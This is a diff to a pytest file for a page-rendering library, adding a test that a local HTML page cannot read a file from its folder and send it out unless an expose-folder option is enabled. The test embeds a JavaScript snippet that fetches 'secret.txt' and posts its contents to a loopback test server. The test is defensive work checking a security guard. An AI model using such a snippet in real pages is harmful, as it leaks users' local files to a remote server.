@@ -7,7 +7,7 @@ from http.server import BaseHTTPRequestHandler
 
 import pytest
 
-from pagelet.errors import UnsafeAddress
+from pagelet.errors import OptionError, UnsafeAddress
 from pagelet.sources.browser.resources import content_type, read_local
 from tests.sources.drawing import OPTIONS, is_drawn, page, place, png
 from tests.sources.loopback import Loopback, ReceivedRequest, running
@@ -207,3 +207,24 @@ def test_kinds_of_files():
     names = ("a.css?v=1.2", "b.js", "c.svg", "d.png", "e")
     kinds = ["text/css", "text/javascript", "image/svg+xml", "image/png"]
     assert [content_type(name) for name in names] == [*kinds, "application/octet-stream"]
+
+
+# -- files of a local page -----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("as_file", [True, False])
+def test_a_local_page_cannot_send_its_folder_away(browser, web, tmp_path, as_file):
+    (tmp_path / "secret.txt").write_text("secret")
+    send = f"fetch('/secret.txt').then(a => a.text()).then(a => fetch('{web.url}/' + a))"
+    html = f"<p>x<script>{send}</script>"
+    (tmp_path / "page.html").write_text(html)
+    source = tmp_path / "page.html" if as_file else html.encode()
+    options = replace(OPTIONS, folder=str(tmp_path), javascript="on", wait=0.5)
+    both = replace(options, network="on", allow_private=(web.place,))
+    with pytest.raises(OptionError, match="--expose-folder"):
+        browser.render(source, both)
+    browser.render(source, options)
+    assert web.requests == []
+    browser.render(source, replace(both, expose_folder=True))
+    assert web.paths == ["/secret"]
+    browser.render(b"<p>no folder", replace(OPTIONS, javascript="on", network="on"))
